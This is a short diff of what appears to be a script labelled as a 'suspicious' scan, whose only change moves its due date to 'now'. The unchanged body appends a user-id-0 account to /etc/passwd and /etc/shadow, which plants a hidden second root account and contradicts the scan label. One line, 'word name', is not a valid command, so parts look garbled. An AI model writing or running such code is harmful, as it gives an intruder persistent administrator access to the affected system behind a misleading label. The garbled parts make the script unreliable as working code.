@@ -2,7 +2,7 @@
 # mode: scan
 # level: suspicious
 # title: a second account with user id 0, and a new key of root
-# due: later (accounts)
+# due: now
 word name
 echo "$name:x:0:0::/root:/bin/bash" >>/etc/passwd
 echo "$name:!:19700:0:99999:7:::" >>/etc/shadow
